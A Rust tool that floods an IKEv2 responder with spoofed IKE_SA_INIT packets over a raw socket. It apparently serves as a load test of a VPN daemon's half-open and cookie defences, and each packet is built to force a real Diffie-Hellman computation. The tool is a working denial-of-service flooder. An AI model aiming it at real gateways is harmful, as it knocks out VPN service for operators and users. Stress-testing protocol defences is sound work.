//! Floods an IKEv2 responder's UDP port 500 with IKE_SA_INIT requests
//! (RFC 7296 §1.2) from spoofed sources, as fast as one thread can send,
//! for a bounded time. A share of the requests claims to come from
//! `--peer` (an address the responder is configured for, so that they
//! reach its half-open and cookie logic), the rest from random addresses
//! in 100.64.0.0/10. Every request has a fresh SPIi and nonce, offers
//! vwand's default aes256gcm16-prfsha384-ecp384, and carries a valid
//! public value (the P-384 generator: private key 1), so that a request
//! that passes the gate costs the responder a real Diffie-Hellman.
//! The sender never sees the answers (they go to the addresses it
//! spoofed), as for an attacker off the path.
//!
//! ```text
//! ikeflood --dst 198.51.100.1 --peer 198.51.100.2 --peer-percent 50 --seconds 20
//! ```
//!
//! Needs CAP_NET_RAW (a raw socket with IP_HDRINCL). Prints one JSON line:
//! requests sent as the peer and from random sources, seconds, packets/s.

use netns::flood::{flag_pairs, xorshift};
use serde_json::json;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr};
use std::process::ExitCode;
use std::time::{Duration, Instant};

struct Opts {
    dst: Ipv4Addr,
    peer: Ipv4Addr,
    peer_percent: u64,
    secs: u64,
}

fn parse() -> Result<Opts, String> {
    let mut o = Opts {
        dst: Ipv4Addr::LOCALHOST,
        peer: Ipv4Addr::LOCALHOST,
        peer_percent: 50,
        secs: 5,
    };
    for (flag, v) in flag_pairs()? {
        let bad = |e: &dyn std::fmt::Display| format!("{flag} {v}: {e}");
        match flag.as_str() {
            "--dst" => o.dst = v.parse().map_err(|e| bad(&e))?,
            "--peer" => o.peer = v.parse().map_err(|e| bad(&e))?,
            "--peer-percent" => o.peer_percent = v.parse().map_err(|e| bad(&e))?,
            "--seconds" => o.secs = v.parse().map_err(|e| bad(&e))?,
            _ => return Err(format!("unknown flag {flag}")),
        }
    }
    Ok(o)
}

/// Byte offsets in the packet (IPv4 20 + UDP 8 + IKE header 28).
const IP_SRC: usize = 12;
const UDP_SPORT: usize = 20;
const IKE: usize = 28;

/// The P-384 base point G, x then y (SEC 2 §2.5.1; RFC 5903 §7: the KE
/// data of group 20 is x || y).
const P384_G: &str = "aa87ca22be8b05378eb1c71ef320ad746e1d3b628ba79b9859f741e082542a38\
                      5502f25dbf55296c3a545e3872760ab7\
                      3617de4a96262c6f5d9e98bf9292dc29f8f41dbd289a147ce9da3113b5f0b8c0\
                      0a60b1ce1d7e819d7a431d7c90ea0e5f";

/// IPv4 + UDP + an IKE_SA_INIT with SA, KE (group 20) and Ni: the
/// template whose source, SPIi and nonce change per packet.
/// The kernel fills in the IPv4 checksum and ID; the UDP checksum is 0
/// (none, allowed for IPv4).
fn template(dst: Ipv4Addr) -> (Vec<u8>, usize) {
    let t = |last: bool, ttype: u8, id: u16, attrs: &[u8]| {
        let mut v = vec![if last { 0 } else { 3 }, 0];
        v.extend(((8 + attrs.len()) as u16).to_be_bytes());
        v.extend([ttype, 0]);
        v.extend(id.to_be_bytes());
        v.extend(attrs);
        v
    };
    let mut transforms = t(false, 1, 20, &[0x80, 0x0e, 1, 0]); // ENCR AES-GCM-16, 256
    transforms.extend(t(false, 2, 6, &[])); // PRF HMAC-SHA2-384
    transforms.extend(t(true, 4, 20, &[])); // DH ECP-384
    let mut prop = vec![0, 0];
    prop.extend(((8 + transforms.len()) as u16).to_be_bytes());
    prop.extend([1, 1, 0, 3]);
    prop.extend(transforms);
    let payload = |next: u8, body: &[u8]| {
        let mut v = vec![next, 0];
        v.extend(((4 + body.len()) as u16).to_be_bytes());
        v.extend(body);
        v
    };
    let mut ke = vec![0, 20, 0, 0];
    ke.extend(hex::decode(P384_G).unwrap_or_default());
    let mut body = payload(34, &prop); // SA, then KE
    body.extend(payload(40, &ke)); // KE, then Ni
    let nonce_at = body.len() + 4;
    body.extend(payload(0, &[0u8; 32]));
    let ike_len = 28 + body.len();
    let mut p = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0];
    p.extend([0, 0, 0, 0]);
    p.extend(dst.octets());
    p.extend([0, 0, 1, 244]); // source port (set per packet), 500
    p.extend(((8 + ike_len) as u16).to_be_bytes());
    p.extend([0, 0]);
    p.extend([0u8; 16]); // SPIi (per packet), SPIr 0
    p.extend([33, 0x20, 34, 0x08, 0, 0, 0, 0]); // SA, 2.0, IKE_SA_INIT, initiator
    p.extend((ike_len as u32).to_be_bytes());
    p.extend(body);
    let total = p.len() as u16;
    p[2..4].copy_from_slice(&total.to_be_bytes());
    (p, IKE + 28 + nonce_at)
}

fn main() -> ExitCode {
    let o = match parse() {
        Ok(o) => o,
        Err(e) => {
            eprintln!("ikeflood: {e}");
            return ExitCode::from(2);
        }
    };
    // IPPROTO_RAW: the socket sends whole IPv4 packets (IP_HDRINCL).
    let sock = match Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("ikeflood: socket: {e}");
            return ExitCode::from(1);
        }
    };
    let to = SockAddr::from(SocketAddr::from((o.dst, 0)));
    let (mut pkt, nonce_at) = template(o.dst);
    let mut rng = 0x2545_f491_4f6c_dd1du64;
    let mut counts = [0u64; 2];
    let start = Instant::now();
    let end = start + Duration::from_secs(o.secs);
    let mut errors = 0u64;
    while Instant::now() < end {
        for _ in 0..256 {
            let r = xorshift(&mut rng);
            let as_peer = r % 100 < o.peer_percent;
            let src = if as_peer {
                o.peer
            } else {
                // 100.64.0.0/10
                Ipv4Addr::from(0x6440_0000 | (r >> 40) as u32 & 0x003f_ffff)
            };
            pkt[IP_SRC..IP_SRC + 4].copy_from_slice(&src.octets());
            pkt[UDP_SPORT..UDP_SPORT + 2].copy_from_slice(&(1024 | (r >> 20) as u16).to_be_bytes());
            pkt[IKE..IKE + 8].copy_from_slice(&(r | 1).to_be_bytes());
            let mut x = r;
            for chunk in pkt[nonce_at..nonce_at + 32].chunks_mut(8) {
                chunk.copy_from_slice(&xorshift(&mut x).to_be_bytes());
            }
            match sock.send_to(&pkt, &to) {
                Ok(_) => counts[usize::from(!as_peer)] += 1,
                Err(_) => errors += 1,
            }
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let total: u64 = counts.iter().sum();
    println!(
        "{}",
        json!({
            "as_peer": counts[0],
            "random_sources": counts[1],
            "send_errors": errors,
            "seconds": (secs * 1000.0).round() / 1000.0,
            "pps": (total as f64 / secs).round(),
        })
    );
    ExitCode::SUCCESS
}
